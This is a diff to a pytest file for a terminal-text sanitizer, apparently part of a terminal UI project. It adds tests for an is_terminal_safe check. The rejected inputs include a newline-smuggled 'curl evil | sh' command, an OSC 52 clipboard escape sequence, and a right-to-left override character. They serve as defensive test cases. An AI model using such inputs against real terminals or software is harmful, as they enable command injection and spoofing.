@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from limbo_tui.terminal_text import safe_text
+from limbo_tui.terminal_text import is_terminal_safe, safe_text
 
 
 @pytest.mark.parametrize(
@@ -37,3 +37,18 @@ def test_safe_text_limit_and_non_strings() -> None:
     assert len(safe_text("x" * 1000, 80)) == 80
     assert safe_text(None) == ""
     assert safe_text(42) == "42"
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("fe5f923f-1531-4c06-af78-f4e8f9b5b9c4-1", True),
+        ("漢字-名前 ✓", True),
+        ("id\ncurl evil | sh\n", False),
+        ("id\x1b]52;c;cGF3bmVk\x07", False),
+        ("tab\there", False),
+        ("rtl\u202eexe", False),
+    ],
+)
+def test_is_terminal_safe_says_whether_text_passes_unchanged(text: str, safe: bool) -> None:
+    assert is_terminal_safe(text) is safe
